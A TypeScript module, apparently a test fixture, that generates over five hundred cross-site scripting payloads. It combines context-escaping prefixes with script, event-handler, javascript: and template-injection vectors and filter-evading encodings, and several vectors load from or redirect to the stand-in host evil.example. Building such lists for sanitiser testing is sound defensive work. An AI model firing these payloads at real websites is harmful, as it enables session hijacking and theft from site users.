/** Where a text may stand, and what would end that place: of HTML, attributes, scripts, styles, comments and templates. */
const PLACES = [
  ...['', '">', "'>", ' ', '-->', ']]>', '?>', '`', '\\";', "');", '}}', '\n'],
  ...['</title>', '</textarea>', '</script>', '</style>', '</bdi></p>', '</option></select>', '</svg>', '</noscript>'],
]

/** What would run, ask elsewhere or change the page. */
const CALL = 'boom()'
const VECTORS = [
  `<script>${CALL}</script>`,
  `<script src=//evil.example></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=//evil.example/x>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<iframe src=javascript:parent.${CALL}>`,
  `<a href="javascript:${CALL}" autofocus onfocus=${CALL}>x</a>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video src=x onerror=${CALL}></video>`,
  `<body onload=${CALL}>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  `<object data="data:text/html,<script>${CALL}</script>">`,
  `<embed src=//evil.example>`,
  `<form action=//evil.example><button>x</button></form>`,
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<style>@import "//evil.example"</style>',
  `<x onpointerenter=${CALL} onclick=${CALL}>x</x>`,
  `" autofocus onfocus=${CALL} x="`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `-${CALL}-`,
  `alert(1)`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
]

/** Other spellings of the same, which a reader of HTML, addresses, JSON or scripts might turn back. */
const SPELLINGS: ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replace(/[<>"']/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  (text) => encodeURIComponent(text),
  (text) => text.replace(/[<>]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) =>
    text.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)).replace(/BoOm|bOoM/g, 'boom'),
  (text) => text.replaceAll('script', 'scr\u200bipt').replaceAll(' on', '/on'),
  (text) => text.replaceAll('<', '<<').replaceAll('>', '\u2028>'),
]

/** More than five hundred texts that would run, or fetch, where a page took what people typed for its own. */
export const PAYLOADS: readonly string[] = [
  ...new Set(
    VECTORS.flatMap((vector) => [
      ...PLACES.map((end) => end + vector),
      ...SPELLINGS.map((spelling) => spelling(vector)),
    ]),
  ),
]

/** Payloads of at most so many characters on one line, as a field takes them, starting anew at the end. */
export function payloads(count: number, { most, from = 0 }: { most: number; from?: number }): string[] {
  const fitting = PAYLOADS.map((text) => text.replace(/\s+/g, ' ').trim()).filter((text) => text.length <= most)
  return Array.from({ length: count }, (_, at) => fitting[(from + at) % fitting.length]!)
}
